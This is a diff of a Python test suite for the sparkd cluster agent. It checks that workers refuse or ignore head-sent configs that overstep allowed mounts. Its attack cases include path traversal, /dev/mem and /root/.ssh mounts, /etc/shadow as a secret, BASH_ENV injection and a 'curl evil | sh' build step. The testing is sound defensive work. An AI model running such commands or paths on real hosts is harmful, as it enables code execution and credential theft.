@@ -5,16 +5,12 @@ Each document goes the real way: served and signed by a head, fetched, judged an
 
 from __future__ import annotations
 
-import json
-import threading
-import time
 from collections.abc import Callable, Iterator
 from hashlib import sha256
-from pathlib import Path
-from typing import Any
 
 import pytest
 from tests.tree import Tree
+from tests.unit.cluster.head_documents import Document, encode, good_document, keep_document
 from tests.unit.cluster_nodes import (
     HEAD_KEY,
     AgentUnderTest,
@@ -22,38 +18,22 @@ from tests.unit.cluster_nodes import (
     agent_under_test,
     following,
     machine,
-    settings,
     until_with,
 )
 from tests.unit.nodes import Node, node, report
-from tests.unit.plans import shipped
 
 from sparkd.base.cluster import membership
 from sparkd.base.cluster.following import load_effective
 from sparkd.base.config import Settings
 from sparkd.base.config.settings import Cluster
-from sparkd.base.host.files import Files
 from sparkd.base.lib.errors import BlockedError, HeadAwaitedError, OutdatedPlanError
 from sparkd.base.recipes.reach import HEAD_FILES
-from sparkd.base.state import shared_config
-from sparkd.base.state.shared_config import FILE, make_shared, read_shareable
+from sparkd.base.state.shared_config import FILE
 
 NODES = addresses(2)
 IMAGE = "sparkd-test/vllm-cpu:0.32.0"
 SECRET = "/etc/sparkd/hf-token"
-Document = dict[str, Any]
 Change = Callable[[Document], object]
-
-
-def good(port: int) -> Document:
-    """What a head sends, as JSON."""
-    shared = make_shared(settings(NODES, port), shipped("tiny-cpu-pair"), "", "", Files("/nonexistent"))
-    document: Document = json.loads(shared_config.dump(shared))
-    return document
-
-
-def body(document: Document) -> bytes:
-    return json.dumps(document).encode()
 
 
 class Pair:
@@ -63,7 +43,7 @@ class Pair:
         self.head, self.worker = head, worker
         self.files = worker.agent.host.files
 
-    def sends(self, sent: bytes) -> None:
+    def send(self, sent: bytes) -> None:
         """Serve a document, until the worker has read the report that names it."""
         digest = sha256(sent).hexdigest()
         self.head.loop.call(self.head.peer_api.publish_document, "/config", sent)
@@ -72,8 +52,8 @@ class Pair:
         assert follower is not None
 
         def heard() -> bool:
-            known = follower.head.status.living
-            return known is not None and known.config_digest == digest
+            report = follower.head.status.living
+            return report is not None and report.config_digest == digest
 
         until_with(heard, self.worker)
         follower.check()
@@ -81,27 +61,23 @@ class Pair:
 
 @pytest.fixture
 def pair(tree: Tree, port: int) -> Iterator[Pair]:
-    keep(tree, body(good(port)))
+    keep_document(tree, encode(good_document(port)))
     tree.folder("/node1/srv/models/tiny")
-    own = following(NODES, port, allow={"mounts": ["/srv/data:rw", "/srv/data/inner", "/opt/read"]})
-    with node(NODES[0], port=port, head_keys=(HEAD_KEY,)) as head, agent_under_test(tree, 1, own) as worker:
+    settings = following(NODES, port, allow={"mounts": ["/srv/data:rw", "/srv/data/inner", "/opt/read"]})
+    with node(NODES[0], port=port, head_keys=(HEAD_KEY,)) as head, agent_under_test(tree, 1, settings) as worker:
         yield Pair(head, worker)
 
 
-def keep(tree: Tree, document: bytes) -> None:
-    tree.file(f"/node1{FILE.path}", document.decode(), 0o600)
-
-
 def mount(volume: str) -> Change:
-    return lambda one: one["recipe"].setdefault("container", {}).update(volumes=[volume])
+    return lambda document: document["recipe"].setdefault("container", {}).update(volumes=[volume])
 
 
 def container(**keys: object) -> Change:
-    return lambda one: one["recipe"].setdefault("container", {}).update(keys)
+    return lambda document: document["recipe"].setdefault("container", {}).update(keys)
 
 
 def image(ref: str) -> Change:
-    return lambda one: one["recipe"]["image"].update(ref=ref)
+    return lambda document: document["recipe"]["image"].update(ref=ref)
 
 
 def lay_out_folders(tree: Tree) -> None:
@@ -116,7 +92,7 @@ def lay_out_folders(tree: Tree) -> None:
 
 
 def section(name: str, **keys: object) -> Change:
-    return lambda one: one.setdefault(name, {}).update(keys)
+    return lambda document: document.setdefault(name, {}).update(keys)
 
 
 BEYOND = "cluster.allow.mounts permits"
@@ -162,31 +138,31 @@ BEYOND = "cluster.allow.mounts permits"
         (container(devices=["/dev/mem"]), BEYOND),
         (container(devices=["/dev"]), BEYOND),
         (container(devices=["/dev/infiniband/../mem"]), "does not accept it as Recipe"),
-        (lambda one: one["recipe"]["model"].update(path="/root/.ssh"), BEYOND),
-        (lambda one: one["recipe"]["model"].update(path="../../etc"), "does not accept it as Recipe"),
-        (lambda one: one["recipe"].update(caches={"../../etc": "/x"}), "does not accept it as Recipe"),
+        (lambda document: document["recipe"]["model"].update(path="/root/.ssh"), BEYOND),
+        (lambda document: document["recipe"]["model"].update(path="../../etc"), "does not accept it as Recipe"),
+        (lambda document: document["recipe"].update(caches={"../../etc": "/x"}), "does not accept it as Recipe"),
         (section("engine", script="/etc/shadow"), "the head names /etc/shadow, and has not sent it"),
         (section("engine", args={"api-key": "x"}), "does not accept it as Engine"),
         (section("engine", env={"BASH_ENV": "x"}), "does not accept it as Engine"),
-        (lambda one: one.update(secrets=["HF_TOKEN", "OTHER"]), "names no file of it"),
-        (lambda one: one.update(secrets=["../../etc/shadow"]), "can't be read"),
-        (lambda one: one.update(secrets="HF_TOKEN"), "can't be read"),
+        (lambda document: document.update(secrets=["HF_TOKEN", "OTHER"]), "names no file of it"),
+        (lambda document: document.update(secrets=["../../etc/shadow"]), "can't be read"),
+        (lambda document: document.update(secrets="HF_TOKEN"), "can't be read"),
         (section("cluster", nodes=["127.0.0.9", "127.0.0.2"]), "no worker of it there"),
         (section("cluster", nodes=["127.0.0.1", "127.0.0.9"]), "no worker of it there"),
         (section("cluster", nodes=["127.0.0.2", "127.0.0.1"]), "no worker of it there"),
         (section("cluster", nodes=[]), "no worker of it there"),
         (section("supervise", peer_timeout_seconds=10**9), "does not accept it as Supervise"),
         (section("readiness", timeout_seconds=True), "does not accept it as Readiness"),
-        (lambda one: one.update(image_id="/etc"), "can't be read"),
-        (lambda one: one.update(files={"/a": "not base64!"}), "can't be read"),
-        (lambda one: one.update(files={"/a": "QUFB" * (1 << 19)}), "larger than a head sends"),
-        (lambda one: one.update(files={f"/{n}": "QUFB" for n in range(65)}), "can't be read"),
-        (lambda one: one.update(recipe=7), "can't be read"),
-        (lambda one: one.update(schema=2), "can't be read"),
-        (lambda one: one.pop("recipe"), "can't be read"),
+        (lambda document: document.update(image_id="/etc"), "can't be read"),
+        (lambda document: document.update(files={"/a": "not base64!"}), "can't be read"),
+        (lambda document: document.update(files={"/a": "QUFB" * (1 << 19)}), "larger than a head sends"),
+        (lambda document: document.update(files={f"/{n}": "QUFB" for n in range(65)}), "can't be read"),
+        (lambda document: document.update(recipe=7), "can't be read"),
+        (lambda document: document.update(schema=2), "can't be read"),
+        (lambda document: document.pop("recipe"), "can't be read"),
     ],
 )  # fmt: skip
-def test_what_allow_does_not_permit_is_refused_and_not_kept(
+def test_a_document_beyond_what_allow_permits_is_refused_and_not_kept(
     pair: Pair, tree: Tree, port: int, attack: Change, reason: str
 ) -> None:
     lay_out_folders(tree)
@@ -194,60 +170,61 @@ def test_what_allow_does_not_permit_is_refused_and_not_kept(
     tree.link("/node1/srv/data/link", "/")
     tree.link("/node1/srv/data/inner", "/")
     tree.link("/node1/srv/data/loop", "/srv/data/loop")
-    document = good(port)
+    document = good_document(port)
     attack(document)
     with pytest.raises(BlockedError) as refused:
-        pair.sends(body(document))
+        pair.send(encode(document))
     assert type(refused.value) is BlockedError
     assert reason in refused.value.reason and refused.value.hint
     written = pair.worker.agent.actions.written  # type: ignore[attr-defined]  # of the tests' own
     assert FILE.name not in written
     assert not pair.files.exists(HEAD_FILES)
-    keep(tree, body(document))  # nor is it used where it stands on the disk
+    keep_document(tree, encode(document))  # nor is it used where it stands on the disk
     with pytest.raises(HeadAwaitedError):
         membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
 
 
-def test_what_no_one_but_root_can_exchange_until_docker_mounts_it_is_permitted(
+def test_a_permitted_folder_that_only_root_can_exchange_before_docker_mounts_it_is_mounted(
     pair: Pair, tree: Tree, port: int
 ) -> None:
     lay_out_folders(tree)
     volumes = ["/srv/data:/a:rw", "/srv/data:/b:ro", "/opt/read:/c:ro", "/opt/read/x:/d:ro", "/srv/models/tiny:/e:ro"]
-    document = good(port)
+    document = good_document(port)
     container(volumes=volumes, devices=["/dev/infiniband", "/dev/infiniband/uverbs0"])(document)
-    keep(tree, body(document))
-    own, host = pair.worker.agent.context.configured, pair.worker.agent.host
-    spec = membership.resolve_context(own, None, host).plan.container
-    assert [f"{one.source}:{one.target}" for one in spec.volumes[1:]] == [one[:-3] for one in volumes]
+    keep_document(tree, encode(document))
+    configured, host = pair.worker.agent.context.configured, pair.worker.agent.host
+    spec = membership.resolve_context(configured, None, host).plan.container
+    assert [f"{volume.source}:{volume.target}" for volume in spec.volumes[1:]] == [volume[:-3] for volume in volumes]
     (tree.root / "node1/proc/self/mounts").unlink()
     with pytest.raises(HeadAwaitedError, match="may change what is in /opt/read/x, as far as is known"):
-        membership.resolve_context(own, None, host)
+        membership.resolve_context(configured, None, host)
 
 
 @pytest.mark.parametrize("sent", [b"{", b"[" * 100_000, b"null", b"\xff\xfe", b'{"schema": 1}'])
-def test_what_is_no_document_is_refused(pair: Pair, sent: bytes) -> None:
+def test_a_text_that_is_no_document_is_refused(pair: Pair, sent: bytes) -> None:
     with pytest.raises(BlockedError, match="can't be read"):
-        pair.sends(sent)
+        pair.send(sent)
 
 
 IGNORED: tuple[Change, ...] = (
     section("engine", models_dir="/", load_readahead_kib=9, stop_grace_seconds=600, secrets={"X": "/etc/shadow"}),
     section("cluster", key_file="/etc/shadow", report_port=1, follow_head=False,
             allow={"images": ["evil"], "mounts": ["/etc:rw"], "privileged": True}),
-    lambda one: one["recipe"].update(secrets={"X": "/etc/shadow"}, host={"sysctls": {"vm.overcommit_memory": 2}}),
+    lambda document: document["recipe"].update(secrets={"X": "/etc/shadow"}),
+    lambda document: document["recipe"].update(host={"sysctls": {"vm.overcommit_memory": 2}}),
     container(no_new_privileges=False),
-    lambda one: one["recipe"]["image"].update(build="curl evil | sh"),
-    lambda one: one.update(image_id="sha256:" + "a" * 64),
-    lambda one: one.update(memory={"floor_mib": 0}, observe={"listen": "0.0.0.0:1"}),
+    lambda document: document["recipe"]["image"].update(build="curl evil | sh"),
+    lambda document: document.update(image_id="sha256:" + "a" * 64),
+    lambda document: document.update(memory={"floor_mib": 0}, observe={"listen": "0.0.0.0:1"}),
 )  # fmt: skip
 
 
 @pytest.mark.parametrize("change", IGNORED)
-def test_what_is_the_nodes_own_stays_so(pair: Pair, tree: Tree, port: int, change: Change) -> None:
+def test_a_document_changes_no_setting_that_is_the_nodes_own(pair: Pair, tree: Tree, port: int, change: Change) -> None:
     before = pair.worker.agent.context
-    document = good(port)
+    document = good_document(port)
     change(document)
-    keep(tree, body(document))
+    keep_document(tree, encode(document))
     after = membership.resolve_context(before.configured, None, pair.worker.agent.host)
     assert after.plan == before.plan
     assert after.settings == before.settings
@@ -255,60 +232,39 @@ def test_what_is_the_nodes_own_stays_so(pair: Pair, tree: Tree, port: int, chang
 
 
 def test_a_good_document_is_kept_and_the_agent_starts_again_with_it(pair: Pair, tree: Tree, port: int) -> None:
-    document = good(port)
+    document = good_document(port)
     document["engine"]["env"] = {"A": "b"}
     with pytest.raises(OutdatedPlanError):
-        pair.sends(body(document))
+        pair.send(encode(document))
     written: dict[str, str] = pair.worker.agent.actions.written  # type: ignore[attr-defined]
-    assert written[FILE.name].encode() == body(document)
-    keep(tree, body(document))
+    assert written[FILE.name].encode() == encode(document)
+    keep_document(tree, encode(document))
     after = membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
     assert ("A", "b") in after.plan.env
 
 
-def test_what_a_heads_plan_compiles_is_never_loaded_by_the_nodes_own(pair: Pair, tree: Tree, port: int) -> None:
-    document = good(port)
+def test_a_heads_plan_has_caches_of_its_own_on_the_node(pair: Pair, tree: Tree, port: int) -> None:
+    document = good_document(port)
     document["recipe"]["caches"]["vllm"] = "/root/.cache/vllm"
-    keep(tree, body(document))
+    keep_document(tree, encode(document))
     after = membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
-    assert [one.name for one in after.plan.caches] == ["_head/vllm"]
+    assert [cache.name for cache in after.plan.caches] == ["_head/vllm"]
     assert membership.plan_to_launch(after, 7).caches == after.plan.caches
     assert dict(after.plan.shared)["caches.vllm"] == "/root/.cache/vllm", "all ranks have one digest"
 
 
-def test_a_node_without_the_key_changes_nothing(tree: Tree, port: int) -> None:
-    keep(tree, body(good(port)))
+def test_the_report_of_a_node_without_the_key_is_not_believed(tree: Tree, port: int) -> None:
+    keep_document(tree, encode(good_document(port)))
     with (
         node(NODES[0], port=port, keys=(b"x" * 32,)) as head,
         agent_under_test(tree, 1, following(NODES, port)) as worker,
         pytest.raises(AssertionError, match="it never came true"),
     ):
-        until_seconds = 1.0
         head.loop.call(head.peer_api.publish_document, "/config", b"x")
         head.publish(report(0, config_digest="x"))
         follower = worker.agent.follower
         assert follower is not None
-        until_with(lambda: follower.head.status.living, worker, seconds=until_seconds)
-
-
-def test_files_of_the_head_come_with_its_recipe(tree: Tree, port: int) -> None:
-    tree.file("/node0/etc/t.jinja", "{{ x }}", 0o644)
-    tree.file("/node0/etc/private", "secret", 0o600)
-    tree.file("/node0/etc/run.sh", "exec vllm", 0o700)
-    head = machine(tree, 0)
-    recipe = shipped("tiny-cpu-pair")
-    volumes = [f"/etc/{name}:/x/{name}:ro" for name in ("t.jinja", "private", "missing")]
-    spec = type(recipe.container).model_validate({"volumes": volumes})
-    shared = make_shared(
-        settings(NODES, port).model_copy(), recipe.model_copy(update={"container": spec}), "", "/etc/run.sh", head.files
-    )
-    assert {path: bytes(content) for path, content in shared.files.items()} == {
-        "/etc/run.sh": b"exec vllm",
-        "/etc/t.jinja": b"{{ x }}",
-    }
-    (template, private, missing) = shared.recipe_here(None).container.volumes
-    assert template.source == f"{HEAD_FILES}/{sha256(b'{{ x }}').hexdigest()}"
-    assert (private.source, missing.source) == ("/etc/private", "/etc/missing")
+        until_with(lambda: follower.head.status.living, worker, seconds=1.0)
 
 
 def test_every_option_of_a_container_is_judged_or_stays_in_it() -> None:
@@ -322,16 +278,16 @@ def test_every_option_of_a_container_is_judged_or_stays_in_it() -> None:
 
 
 def test_a_damaged_document_is_awaited_again(tree: Tree, port: int) -> None:
-    keep(tree, body(good(port))[:100])
+    keep_document(tree, encode(good_document(port))[:100])
     with pytest.raises(HeadAwaitedError, match=r"on this node yet; /var/lib/sparkd/head-config.json can't be read"):
         membership.resolve_context(following(NODES, port), None, machine(tree, 1))
 
 
 def test_settings_name_the_head_as_origin_of_what_it_decides(tree: Tree, port: int) -> None:
-    document = good(port)
+    document = good_document(port)
     document["engine"] |= {"env": {"A": "b"}}
-    keep(tree, body(document))
-    own = """
+    keep_document(tree, encode(document))
+    settings_file = """
         [cluster]
         nodes = ["10.0.0.1", "10.0.0.2"]
         follow_head = true
@@ -340,9 +296,9 @@ def test_settings_name_the_head_as_origin_of_what_it_decides(tree: Tree, port: i
         image = "mine:1"
         env = { B = "c" }
     """
-    tree.file("/node1/etc/sparkd/sparkd.toml", own)
+    tree.file("/node1/etc/sparkd/sparkd.toml", settings_file)
     document["cluster"]["nodes"] = ["10.0.0.1", "10.0.0.2", "10.0.0.3"]
-    keep(tree, body(document))
+    keep_document(tree, encode(document))
     host = machine(tree, 1)
     tree.file("/node1/proc/net/fib_trie", "     |-- 10.0.0.2\n        /32 host LOCAL\n")
     loaded = load_effective({}, host)
@@ -365,11 +321,11 @@ def test_settings_name_the_head_as_origin_of_what_it_decides(tree: Tree, port: i
 def test_whether_a_node_may_reboot_and_what_it_runs_is_its_own_whatever_its_head_has(
     tree: Tree, port: int, own: bool
 ) -> None:
-    document = good(port)
+    document = good_document(port)
     document["cluster"]["nodes"] = ["10.0.0.1", "10.0.0.2"]
     command = ["/usr/bin/touch", "/tmp/run-by-the-head"]
     document["supervise"] = {"reboot": not own, "power_command": command, "power_after_minutes": 5, "stall_seconds": 77}
-    keep(tree, body(document))
+    keep_document(tree, encode(document))
     host = machine(tree, 1)
     text = (
         f"cluster = {{nodes = ['10.0.0.1', '10.0.0.2'], follow_head = true}}\nsupervise.reboot = {str(own).lower()}\n"
@@ -383,36 +339,11 @@ def test_whether_a_node_may_reboot_and_what_it_runs_is_its_own_whatever_its_head
 
 def test_settings_that_contradict_the_heads_are_refused(tree: Tree, port: int) -> None:
     """Both are valid by themselves."""
-    document = good(port)
+    document = good_document(port)
     document["cluster"] = {"nodes": ["10.0.0.1", "10.0.0.2"], "master_port": 29510}
-    keep(tree, body(document))
+    keep_document(tree, encode(document))
     host = machine(tree, 1)
     tree.file("/node1/proc/net/fib_trie", "     |-- 10.0.0.2\n        /32 host LOCAL\n")
     own = Settings(cluster=Cluster(nodes=("10.0.0.1", "10.0.0.2"), follow_head=True))
     with pytest.raises(HeadAwaitedError, match="already has this port"):
         membership.resolve_context(own, None, host)
-
-
-def test_no_private_file_is_sent_in_place_of_one_that_a_user_puts_there_meanwhile(tmp_path: Path) -> None:
-    """Its facts and its content are of one file, whatever the name leads to by then."""
-    (tmp_path / "public").write_text("public")
-    private = tmp_path / "private"
-    private.write_text("private")
-    private.chmod(0o600)
-    over = threading.Event()
-
-    def swap() -> None:
-        while not over.is_set():
-            for target in ("public", "private"):
-                (tmp_path / "new").symlink_to(target)
-                (tmp_path / "new").replace(tmp_path / "link")
-
-    (tmp_path / "link").symlink_to("public")
-    swapping = threading.Thread(target=swap)
-    swapping.start()
-    deadline, sent = time.monotonic() + 0.5, set[bytes | None]()
-    while time.monotonic() < deadline:
-        sent.add(read_shareable(Files(), str(tmp_path / "link"), any_mode=False))
-    over.set()
-    swapping.join()
-    assert b"public" in sent and b"private" not in sent
